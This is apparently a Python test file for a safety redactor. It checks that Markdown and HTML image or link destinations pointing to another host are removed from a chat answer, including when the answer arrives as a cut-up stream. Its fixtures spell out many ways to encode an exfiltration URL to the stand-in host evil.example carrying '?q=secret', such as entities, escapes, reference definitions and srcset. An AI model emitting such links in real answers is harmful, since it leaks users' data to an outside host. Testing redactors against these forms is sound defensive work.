"""The ``link`` kind against a CommonMark renderer (issue 27, defect 2).

The oracle is markdown-it-py itself: the redacted answer is rendered to HTML, the HTML
parsed as a browser would (attribute entities decoded, ``srcset`` split, ``\\`` read as
``/``), and no URL in it may lead to another host. The answers carry the exfiltration
URL in every form a renderer resolves: character references (named, decimal, hex),
backslash escapes, ``<...>`` destinations, reference definitions with the destination on
the next line, inside block quotes and list items, autolinks and HTML ``<img>``/``<a>``
with ``src``/``href``/``srcset``. Streams are cut anywhere and must redact as the whole.
"""

from __future__ import annotations

import html.entities
import itertools
import re
import string
from html.parser import HTMLParser
from urllib.parse import urljoin, urlsplit

import pytest
from hypothesis import assume, example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from sk_core.safety import LINK, Redactor, redact

MD = MarkdownIt("commonmark")  # raw HTML passes through, as in a chat UI that allows it
PAGE = "https://page.example/chat/"
URL_ATTRIBUTES = {"src", "href", "srcset", "action", "formaction", "poster", "background", "data"}
EVIL_URLS = [
    "https://evil.example/?q=secret",
    "//evil.example/x.png?q=secret",
    "HTTPS://EVIL.EXAMPLE/p?q=secret",
    "https:\\\\evil.example/x?q=secret",
]
PROPERTY = settings(max_examples=400, derandomize=True, deadline=None)


class _Urls(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.urls: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name in URL_ATTRIBUTES and value is not None:
                if name == "srcset":
                    self.urls += [c.split()[0] for c in value.split(",") if c.strip()]
                else:
                    self.urls.append(value)


def rendered_hosts(markdown: str) -> set[str]:
    """The hosts a browser would fetch or link to after a CommonMark renderer ran."""
    parser = _Urls()
    parser.feed(MD.render(markdown))
    parser.close()
    hosts = set()
    for url in parser.urls:
        browser = re.sub(r"[\t\n\r]", "", url).strip().replace("\\", "/")
        hosts.add((urlsplit(urljoin(PAGE, browser)).hostname or "").lower())
    return hosts


# Characters that have an HTML5 named reference of their own ("&colon;", "&sol;").
_NAMED = {
    v: k for k, v in sorted(html.entities.html5.items(), reverse=True) if len(v) == 1 and k.endswith(";")
}


def _encode_char(char: str, how: int, *, markdown: bool) -> str:
    if how == 1:
        return f"&#{ord(char)};"
    if how == 2:
        return f"&#x{ord(char):X};"
    if how == 3 and char in _NAMED:
        return f"&{_NAMED[char]}"
    if how == 4 and markdown and char in string.punctuation and char != "\\":
        return "\\" + char  # a backslash escape (Markdown only; HTML has none)
    return char


def encoded(url: str, hows: list[int], *, markdown: bool) -> str:
    return "".join(
        _encode_char(c, h, markdown=markdown) for c, h in zip(url, itertools.cycle(hows), strict=False)
    )


MARKDOWN_FORMS = [
    "![x]({u})",
    "[click]({u})",
    '![x]({u} "a title")',
    "![x](<{u}>)",
    "![x](\n  {u}\n)",
    "> quoted ![x](\n> {u})",
    "![x][r]\n\n[r]: {u}",
    "![x][r]\n\n[r]:\n{u}",
    "![x][r]\n\n   [r]:\n   <{u}> 'title'",
    "![x][Some Ref]\n\n[some\nref]: {u}",
    "> ![x][r]\n>\n> [r]:\n> {u}",
    "- ![x][r]\n- [r]: {u}",
    "1. item\n\n   ![x][r]\n\n   [r]: {u}",
]
HTML_FORMS = [
    '<img src="{h}">',
    "<img src='{h}' alt=x>",
    "<img src={h}>",
    '<img srcset="/ok.png 1x, {h} 2x">',
    '<p>look: <img\nalt="" src="{h}"></p>',
    '<a href="{h}">x</a>',
]
PROSE = ["", "Here is the chart: ", "Done.\n\n", "Text with words, and more words "]


@st.composite
def exfiltrations(draw: st.DrawFn) -> str:
    url = draw(st.sampled_from(EVIL_URLS))
    hows = draw(st.lists(st.integers(0, 4), min_size=1, max_size=12))
    before, after = draw(st.sampled_from(PROSE)), draw(st.sampled_from(PROSE))
    kind = draw(st.sampled_from(["markdown", "html", "autolink"]))
    if kind == "autolink":
        body = f"<{url.replace(chr(92), '/')}>" if url.startswith("http") else f"[x](<{url}>)"
    elif kind == "html":
        body = draw(st.sampled_from(HTML_FORMS)).format(
            h=encoded(url, hows, markdown=False).replace("'", "&#39;")
        )
    else:
        body = draw(st.sampled_from(MARKDOWN_FORMS)).format(u=encoded(url, hows, markdown=True))
    return before + body + "\n\n" + after


REPORTED = [
    "![x](https&#58;//evil.example/?q=secret)",
    "![x](https\\://evil.example/?q=secret)",
    "![x][r]\n\n[r]:\n  https://evil.example/?q=secret",
]


@pytest.mark.parametrize("text", REPORTED)
def test_the_reported_image_forms_are_redacted(text: str) -> None:
    assert "evil.example" in rendered_hosts(text)  # the renderer does fetch it
    result = redact(text)
    assert result.counts.get(LINK) == 1, result.text
    assert "evil.example" not in rendered_hosts(result.text)


@PROPERTY
@given(text=exfiltrations())
@example(text=REPORTED[0])
@example(text='<img srcset="/ok.png 1x, https://evil.example/?q=secret 2x">')
def test_no_rendered_url_leads_to_another_host(text: str) -> None:
    # Only working exfiltrations count (CommonMark refuses "=" in an unquoted attribute).
    assume("evil.example" in rendered_hosts(text))
    result = Redactor([LINK]).redact(text)
    assert "evil.example" not in rendered_hosts(result.text), result.text
    assert Redactor([LINK]).redact(result.text).total == 0  # idempotent


def _streamed(redactor: Redactor, text: str, cuts: list[int]) -> str:
    points = sorted({min(c, len(text)) for c in cuts} | {0, len(text)})
    stream = redactor.stream()
    out = [stream.feed(text[a:b]) for a, b in itertools.pairwise(points)]
    out.append(stream.finish())
    return "".join(out)


@PROPERTY
@given(text=exfiltrations(), cuts=st.lists(st.integers(0, 200), max_size=12))
def test_streams_cut_anywhere_redact_like_the_whole(text: str, cuts: list[int]) -> None:
    redactor = Redactor()
    assert _streamed(redactor, text, cuts) == redactor.redact(text).text
    assert _streamed(redactor, text, list(range(len(text)))) == redactor.redact(text).text


@pytest.mark.parametrize(
    "text",
    [
        "See ![diagram](/img/d.png) and [the docs](https://docs.example.com/a?b=1).",
        '<img srcset="/a.png 1x, https://docs.example.com/b.png 2x">',
        "[r]: /relative/only\n\nA ![x][r] here.",
        "Escapes in prose: 2 \\* 3 &amp; a [bracket] (paren).",
    ],
)
def test_allowed_and_relative_destinations_stay(text: str) -> None:
    assert Redactor([LINK], link_hosts=["docs.example.com"]).redact(text).total == 0
